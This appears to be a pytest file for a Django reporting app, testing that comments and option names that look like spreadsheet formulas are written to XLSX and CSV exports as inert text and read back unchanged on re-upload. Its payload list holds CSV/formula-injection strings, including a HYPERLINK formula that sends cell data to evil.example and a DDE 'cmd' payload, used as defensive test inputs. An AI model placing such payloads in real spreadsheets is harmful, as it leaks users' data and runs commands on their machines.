"""What users typed never runs on someone else's machine: text written to a workbook is never a formula, macros
are never stored, and formulas in an uploaded file are either computed values we say we used or refused."""

from __future__ import annotations

import io
import re
import zipfile
from typing import Any

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from lienket.core import xlsx_safe
from lienket.reporting import csvio, xlsx
from lienket.reporting.models import DataValue, DisaggregationOption
from lienket.reporting.services import ValueItem, datavalues_apply

from .test_xlsx import PERIOD, build, db_dump, upload

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&B7,"Bấm vào đây")'
# Stored as typed after NFC (which trims surrounding whitespace, so "\t=1" is stored as "=1"); the writer
# itself is tested with leading tabs and CRs in lienket/core/tests/test_xlsx_safe.py.
PAYLOADS = [HYPERLINK, "+1", "-1+2", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1", "\r=1"]


def _store_comments(w: Any) -> None:
    """Hà Nội and Phú Thọ each comment their three values with a payload."""
    indicators = ["RETAIL", "EXPORT", "IIP"]
    for k, (unit, actor) in enumerate([("01", "hanoi_officer"), ("25@2025-07-01", "phutho_officer")]):
        items = [
            ValueItem(unit=unit, period=PERIOD, indicator=code, value=3 * k + n + 1, comment=PAYLOADS[3 * k + n])
            for n, code in enumerate(indicators)
        ]
        datavalues_apply(actor=w.users[actor], items=items, source="api")


def _stored() -> list[str]:
    comments = sorted(DataValue.objects.values_list("comment", flat=True))
    assert len(comments) == len(PAYLOADS)
    assert all(c[0] in "=+-@" for c in comments)
    return comments


def _sheet_xml(data: bytes) -> list[bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        return [zf.read(n) for n in zf.namelist() if n.startswith("xl/worksheets/sheet")]


def _comment_cells(data: bytes) -> list[Any]:
    """The filled comment cells of every unit sheet (column H from row 7)."""
    wb = load_workbook(io.BytesIO(data))
    cells = []
    for ws in wb.worksheets:
        if ws.title == xlsx.MAPPING_SHEET:
            continue
        for row in range(xlsx.FIRST_DATA_ROW, ws.max_row + 1):
            cell = ws[f"H{row}"]
            if cell.value is not None:
                cells.append(cell)
    return cells


def _assert_all_text(data: bytes) -> None:
    for xml in _sheet_xml(data):
        assert not re.search(rb"<(\w+:)?f[ >/]", xml), "a formula was written"
    cells = _comment_cells(data)
    assert sorted(c.value for c in cells) == _stored()
    for cell in cells:
        assert cell.data_type == "s", cell.value
        assert cell.quotePrefix, cell.value  # editing the cell in Excel keeps it text


def test_comments_that_look_like_formulas_come_back_as_text_in_the_coordinators_workbook(client, w):
    _store_comments(w)
    client.force_login(w.users["coordinator"])

    response = client.get(reverse("reporting:workbook_download"), {"dataset": "BC-THANG", "period": PERIOD})

    assert response.status_code == 200
    _assert_all_text(response.content)


def test_a_comment_that_looks_like_a_formula_comes_back_as_text_in_the_template(client, w):
    datavalues_apply(actor=w.users["hanoi_officer"], items=[
        ValueItem(unit="01", period=PERIOD, indicator="RETAIL", value=1, comment=HYPERLINK),
    ], source="form")
    client.force_login(w.users["hanoi_officer"])

    response = client.get(reverse("reporting:template_download"), {"dataset": "BC-THANG", "period": PERIOD})

    assert response.status_code == 200
    [cell] = _comment_cells(response.content)
    assert (cell.value, cell.data_type) == (HYPERLINK, "s")
    assert not any(b"<f>" in xml or b"<f " in xml for xml in _sheet_xml(response.content))


@pytest.mark.parametrize("reader", ["fast", "openpyxl"])
def test_reuploading_the_workbook_keeps_the_comments_exactly(w, reader):
    """No apostrophe is added to the text (the cell type and quotePrefix neutralise it), so nothing is
    stripped on import: the comment reads back as stored."""
    _store_comments(w)
    data = build(w, w.hanoi, w.phutho)

    parsed = xlsx.workbook_parse(data=data, filename="all.xlsx", reader=reader)

    assert parsed.errors == []
    assert sorted(i.comment for i in parsed.items) == _stored()


def test_reuploading_each_template_changes_nothing(w):
    _store_comments(w)
    stored, before = _stored(), db_dump()

    hanoi = upload(w.users["hanoi_officer"], build(w, w.hanoi))
    phutho = upload(w.users["phutho_officer"], build(w, w.phutho))

    assert hanoi.status == phutho.status == "done", (hanoi.errors, phutho.errors)
    assert hanoi.summary["unchanged"] == phutho.summary["unchanged"] == 3
    assert _stored() == stored
    assert db_dump() == before


def test_option_names_that_look_like_formulas_are_text_and_still_match_on_upload(w):
    option = DisaggregationOption.objects.get(code="I")
    option.name = "=1+1"
    option.save()
    data = build(w, w.hanoi, period="2026S1", dataset=w.half_year)
    for xml in _sheet_xml(data):
        assert b"<f>" not in xml
    wb = load_workbook(io.BytesIO(data))
    ws = wb.worksheets[0]
    labels = {ws[f"E{r}"].value: ws[f"E{r}"].data_type for r in range(7, ws.max_row + 1) if ws[f"E{r}"].value}
    assert labels["=1+1"] == "s"
    row = next(r for r in range(7, ws.max_row + 1) if ws[f"E{r}"].value == "=1+1")
    ws[f"F{row}"] = 4
    buf = io.BytesIO()
    wb.save(buf)

    job = upload(w.users["hanoi_officer"], buf.getvalue())

    assert job.status == "done", job.errors
    assert DataValue.objects.get(indicator__code="MARKETS", option__code="I").value == 4


def test_characters_a_workbook_cannot_hold_are_dropped_instead_of_failing_the_download(client, w):
    datavalues_apply(actor=w.users["hanoi_officer"], items=[
        ValueItem(unit="01", period=PERIOD, indicator="RETAIL", value=1, comment="a\x01b\x0bc"),
    ], source="form")
    client.force_login(w.users["hanoi_officer"])
    before = db_dump()

    response = client.get(reverse("reporting:template_download"), {"dataset": "BC-THANG", "period": PERIOD})

    assert response.status_code == 200
    assert [c.value for c in _comment_cells(response.content)] == ["abc"]
    assert db_dump() == before


@pytest.mark.parametrize("text", [HYPERLINK, "+1", "-1+2", "@x", "\t=1", "\r=1", "'=1", "sơ bộ", "a=b"])
def test_the_csv_export_quotes_by_the_same_rule_as_the_xlsx_writer(text):
    quoted = csvio.comment_escape(text)

    assert quoted == xlsx_safe.csv_quote(text)
    assert quoted.startswith("'") == (xlsx_safe.formula_risk(text) or text.startswith("'"))
    assert csvio.comment_unescape(quoted) == text
